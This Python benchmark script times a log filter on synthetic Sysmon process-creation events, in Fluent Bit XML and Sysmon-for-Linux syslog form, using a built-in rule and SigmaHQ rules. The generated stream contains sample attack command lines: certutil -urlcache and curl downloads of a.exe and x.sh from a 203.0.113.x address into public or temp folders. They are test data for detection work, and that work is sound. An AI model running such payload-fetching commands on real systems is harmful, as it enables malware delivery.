"""Throughput on events that arrive as event XML: Fluent Bit's Render_Event_As_XML and Sysmon for Linux.

    python bench/xml_lines.py --events 10000 --repeat 3 --compare bench/out/ref-<rev>/filter

Such an event is read from its XML (``events/xml_event.py``), and a line whose XML may spell a value
otherwise than its raw bytes goes past the prefilter to the full path.  Three shapes, each a stream of
Sysmon process creations with Windows-like or Linux paths, one in fifty a download a SigmaHQ rule
alerts on: Render_Event_As_XML records (``System`` the XML, beside a ``Message`` whose lines end in
CR LF, as every Windows event's do), Sysmon for Linux's syslog lines in a Fluent Bit ``tail`` record
(``log``), and the same lines as the syslog file holds them (not JSON).  Each runs with the built-in
rule and with SigmaHQ's process-creation rules of its product, timed in the same rounds as the filter
package in each ``--compare DIR`` (a copy of ``filter/`` as it was).  Events/s leaves start-up out.
"""

from __future__ import annotations

import json
import os
import random
import statistics
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

from rulesets import FILTER, SIGMAHQ, options_of, rounds, run, source_filter  # noqa: E402

WINDOWS_RULES = os.path.join(SIGMAHQ, "rules", "windows", "process_creation")
LINUX_RULES = os.path.join(SIGMAHQ, "rules", "linux", "process_creation")


def _windows_xml(rng: random.Random, number: int, when: str) -> str:
    tool = "certutil.exe" if number % 50 == 7 else rng.choice(["svchost.exe", "conhost.exe", "taskhostw.exe"])
    image = f"C:\\Windows\\System32\\{tool}"
    command = f"{image} -urlcache -f http://203.0.113.{number % 250}/a.exe C:\\Users\\Public\\a.exe" \
        if tool == "certutil.exe" else f"{image} -k netsvcs -p -s Schedule{number}"
    return ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
            "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>"
            f"<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
            f"<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{when}'/>"
            f"<EventRecordID>{number}</EventRecordID><Correlation/><Execution ProcessID='3012' ThreadID='4072'/>"
            f"<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws{number % 97:02d}.corp</Computer>"
            "<Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data>"
            f"<Data Name='ProcessId'>{6000 + number % 3000}</Data><Data Name='Image'>{image}</Data>"
            f"<Data Name='CommandLine'>{command}</Data><Data Name='CurrentDirectory'>C:\\Windows\\system32\\</Data>"
            "<Data Name='User'>NT AUTHORITY\\SYSTEM</Data>"
            "<Data Name='ParentImage'>C:\\Windows\\System32\\services.exe</Data></EventData></Event>")


def _linux_xml(rng: random.Random, number: int, when: str) -> str:
    if number % 50 == 7:
        image, command = "/usr/bin/curl", f"curl -s http://203.0.113.{number % 250}/x.sh -o /tmp/x.sh"
    else:
        image = rng.choice(["/usr/bin/ls", "/usr/sbin/cron", "/usr/bin/python3"])
        command = f"{image} --run job{number}"
    return ('<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
            "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
            f'<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="{when}"/>'
            f"<EventRecordID>{number}</EventRecordID><Correlation/>"
            '<Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel>'
            f'<Computer>web{number % 97:02d}</Computer><Security UserId="0"/></System><EventData>'
            f'<Data Name="RuleName">-</Data><Data Name="ProcessId">{4000 + number % 3000}</Data>'
            f'<Data Name="Image">{image}</Data><Data Name="CommandLine">{command}</Data>'
            '<Data Name="CurrentDirectory">/root</Data><Data Name="User">root</Data>'
            '<Data Name="ParentImage">/usr/bin/bash</Data></EventData></Event>')


def _time(number: int) -> str:
    return f"2026-12-04T10:{number // 6000 % 60:02d}:{number // 100 % 60:02d}.{number % 100:02d}00000Z"


SHAPES = {
    "Render_Event_As_XML": lambda rng, n: json.dumps(
        {"System": _windows_xml(rng, n, _time(n)), "Message": "Process Create:\r\nRuleName: -\r\nUtcTime: x",
         "StringInserts": ["-", str(n)]}),
    "Sysmon for Linux, tail record": lambda rng, n: json.dumps(
        {"log": f"Dec  4 10:00:00 web{n % 97:02d} sysmon: {_linux_xml(rng, n, _time(n))}"}),
    "Sysmon for Linux, syslog file": lambda rng, n: f"Dec  4 10:00:00 web{n % 97:02d} sysmon: "
                                                    f"{_linux_xml(rng, n, _time(n))}",
}


def stream(shape: str, events: int) -> str:
    path = os.path.join(HERE, "out", f"xml-{shape.replace(' ', '_').replace(',', '')}-{events}.log")
    if not os.path.exists(path):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        rng = random.Random(1)
        with open(path, "w", encoding="utf-8") as out:
            out.writelines(SHAPES[shape](rng, number) + "\n" for number in range(events))
    return path


def main() -> int:
    options = options_of(__doc__, 10_000)
    commands = {"": FILTER}
    for path in options.compare:
        commands[" @" + os.path.basename(os.path.normpath(os.path.dirname(os.path.abspath(path))))] = \
            source_filter(path)
    print(f"{options.events:,} events a shape, {options.repeat} rounds, load average {os.getloadavg()[0]:.1f}")
    print(f"{'shape, rules':58} {'events/s':>9} {'alerts':>7}")
    for shape in SHAPES:
        source = stream(shape, options.events)
        rules = {"built-in rule": []}
        sigma = WINDOWS_RULES if shape.startswith("Render") else LINUX_RULES
        if os.path.isdir(sigma):
            rules["SigmaHQ process creation"] = ["--rule", sigma]
        rows = {f"{shape}, {name}{label}": (lambda path, args=args, command=command:
                                            run([*args, "--emit", "all", "--workers", "0"], path, command, ""))
                for name, args in rules.items() for label, command in commands.items()}
        for name, found in rounds(rows, source, options.repeat).items():
            stream_s = max(statistics.median(found["full"]) - statistics.median(found["start"]), 1e-6)
            alerts = "/".join(f"{count - options.events:,}" for count in sorted(found["alerts"]))
            print(f"{name:58} {options.events / stream_s:9,.0f} {alerts:>7}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
